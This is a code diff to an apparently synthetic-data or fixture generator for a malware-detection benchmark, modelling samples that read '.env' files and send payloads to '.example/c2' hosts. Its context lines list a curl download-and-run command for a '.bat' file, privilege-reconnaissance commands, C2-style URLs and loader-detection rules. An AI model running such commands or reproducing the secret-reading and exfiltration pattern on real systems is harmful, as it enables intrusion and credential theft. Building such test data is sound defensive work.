@@ -29,6 +29,8 @@ CLASSES = {"en": "Malware", "de": "Impersonation;Spam", "fr": "Untrustworthy"}
 COMMANDS = ["curl http://files.catbox.moe/x.bat -o a.bat && start a.bat", "whoami /priv", "ipconfig /all", "node server.js", "git status"]
 URLS = ["https://abc.ngrok.io/c2", "https://api.telegram.org/bot1/send", "https://example.com/api", "http://8.8.4.7:8080/p"]
 SAMPLES = 3000
+#: Files that a sample reads; their lines and secrets stay below the cap of a sample's tokens.
+ITEMS = 20
 #: Script lines and what the call shapes say of them: reason, points, tier.
 SCRIPTS = [
     ("eval(atob(p))", "AST: eval()/new Function() over DECODED data (base64/decipher/inflate) — multi-stage loader", 45, "primary"),
@@ -131,12 +133,13 @@ def result_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 
 def reads(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """Every benchmark item as a file that each of four samples read."""
+    """Every benchmark item as a file that a sample read, ``ITEMS`` of them each."""
     items = read(spark, sf_dir, "benchmark")
-    return items.select(F.explode(F.sequence(F.lit(0).cast("long"), F.lit(3).cast("long"))).alias("sample_key"), F.col("item_id").alias("seq"), F.concat(F.lit("/home/u/"), F.col("item_id").cast("string"), F.lit("/.env")).alias("path"), F.col("text").alias("content"))
+    return items.select(F.floor(F.col("item_id") / ITEMS).alias("sample_key"), F.col("item_id").alias("seq"), F.concat(F.lit("/home/u/"), F.col("item_id").cast("string"), F.lit("/.env")).alias("path"), F.col("text").alias("content"))
 
 
 def sends(spark: SparkSession, sf_dir: str) -> DataFrame:
     """Every document as a payload that one of the samples sent after its reads."""
-    docs = read(spark, sf_dir, "documents")
-    return docs.select((F.col("doc_id") % 4).alias("sample_key"), (F.col("doc_id") + 1_000_000).alias("seq"), F.concat(F.lit("https://host"), (F.col("doc_id") % 7).cast("string"), F.lit(".example/c2")).alias("destination"), F.col("text").alias("payload"))
+    samples = read(spark, sf_dir, "benchmark").agg(F.max("item_id")).first()[0] // ITEMS + 1
+    docs = spread(read(spark, sf_dir, "documents").select("doc_id", "text"))
+    return docs.select((F.col("doc_id") % samples).alias("sample_key"), (F.col("doc_id") + 1_000_000).alias("seq"), F.concat(F.lit("https://host"), (F.col("doc_id") % 7).cast("string"), F.lit(".example/c2")).alias("destination"), F.col("text").alias("payload"))
